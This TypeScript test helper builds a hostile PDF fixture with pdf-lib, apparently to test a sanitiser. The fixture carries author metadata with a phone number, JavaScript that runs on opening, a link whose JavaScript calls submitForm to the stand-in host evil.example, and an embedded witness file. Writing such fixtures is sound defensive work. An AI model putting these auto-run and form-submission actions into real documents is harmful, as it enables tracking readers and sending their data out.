/** Test helpers of the Node adapters (not part of the app): `@lens/node/testing`. */
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/**
 * A PDF as a hostile or careless sender makes one: the author's name in its information and XMP
 * metadata, JavaScript run on opening and behind a link, and an embedded file.
 */
export async function hostilePdf(
  text = 'Witness statement: the attack on Tula Toli',
): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.setAuthor('Aung Ko Ko, +95 9 555 0100');
  doc.setCreator('Phone of the witness');
  const page = doc.addPage([400, 300]);
  page.drawText(text, {
    x: 20,
    y: 250,
    size: 12,
    font: await doc.embedFont(StandardFonts.Helvetica),
  });
  const ctx = doc.context;
  const js = ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert("opened")') });
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js));
  const link = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 100, 20],
    A: ctx.obj({ S: 'JavaScript', JS: PDFString.of('this.submitForm("http://evil.example")') }),
  });
  page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(link)]));
  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.register(js) }));
  await doc.attach(new TextEncoder().encode('names of the other witnesses'), 'witnesses.txt', {
    mimeType: 'text/plain',
  });
  const xmp = ctx.stream('<x:xmpmeta><dc:creator>Aung Ko Ko</dc:creator></x:xmpmeta>', {
    Type: 'Metadata',
    Subtype: 'XML',
  });
  doc.catalog.set(PDFName.of('Metadata'), ctx.register(xmp));
  return doc.save({ useObjectStreams: false });
}
